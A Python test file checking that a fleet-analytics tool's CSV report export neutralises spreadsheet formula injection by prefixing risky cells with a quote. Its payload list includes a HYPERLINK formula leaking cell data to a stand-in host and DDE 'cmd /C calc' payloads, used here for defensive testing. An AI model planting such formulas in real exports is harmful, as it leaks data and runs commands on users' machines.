"""Spreadsheet formula injection through ``bofan report --export csv``.

A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
prefixed with ``'`` (OWASP); numbers, negative ones included, stay numbers.
"""

import csv
import json

import pandas as pd
from _fleet import write_dataset
from helpers import at, concat, drive, make_track, park

from bofan_analytics.cli import main
from bofan_analytics.report._export import neutralise_formulas

FORMULAS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_cells_are_neutralised_and_numbers_kept():
    frame = pd.DataFrame(
        {
            "name": [*FORMULAS, "depot", "-12.5", "+3", None],
            "delta_m": [-1.5, -2.0, 3.0, 0.0, -0.25, 1e-3, 7.0, 8.0, 9.0, -10.0],
            "count": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
        }
    )
    out = neutralise_formulas(frame)
    assert out["name"].tolist()[:6] == ["'" + f for f in FORMULAS]
    assert out["name"].tolist()[6:9] == ["depot", "-12.5", "+3"]
    assert pd.isna(out["name"].iloc[9])
    pd.testing.assert_frame_equal(out[["delta_m", "count"]], frame[["delta_m", "count"]])
    assert frame["name"].iloc[0] == FORMULAS[0]  # the input is not modified


def test_report_csv_export_through_the_command_line(tmp_path, capsys):
    fixes = concat(park(0, 600, 0, 0), drive(600, (0, 0), (3000, 0), 50), park(816, 1800, 3000, 0))
    car = make_track(fixes, device="860000000000001", alarms={2: FORMULAS[3]})
    car["msg_type"] = FORMULAS[2]
    dataset = write_dataset(car, tmp_path / "dataset")
    lat, lon = at(3000, 0)
    fence = {
        "type": "Feature",
        "properties": {"name": FORMULAS[0], "radius_m": 200},
        "geometry": {"type": "Point", "coordinates": [lon, lat]},
    }
    fences = tmp_path / "f.geojson"
    fences.write_text(json.dumps({"type": "FeatureCollection", "features": [fence]}))
    out = tmp_path / "week.html"
    code = main(["report", str(dataset), "-o", str(out), "--geofences", str(fences),
                 "--export", "csv"])
    assert (code, capsys.readouterr().err) == (0, "")

    with open(tmp_path / "week-geofence_visits.csv", newline="", encoding="utf-8") as f:
        visits = list(csv.DictReader(f))
    assert [v["geofence"] for v in visits] == ["'" + FORMULAS[0]]
    with open(tmp_path / "week-alarms.csv", newline="", encoding="utf-8") as f:
        alarms = list(csv.DictReader(f))
    assert [(a["alarm"], a["msg_type"]) for a in alarms] == [
        ("'" + FORMULAS[3], "'" + FORMULAS[2])
    ]
    assert alarms[0]["lat"] == repr(at(0, 0)[0])  # numbers are written as numbers
    # no cell of any exported file starts a formula
    for path in tmp_path.glob("week-*.csv"):
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert cell[:1] not in ("=", "+", "@", "\t", "\r"), (path.name, cell)
                    assert not cell.startswith("-") or float(cell) < 0, (path.name, cell)
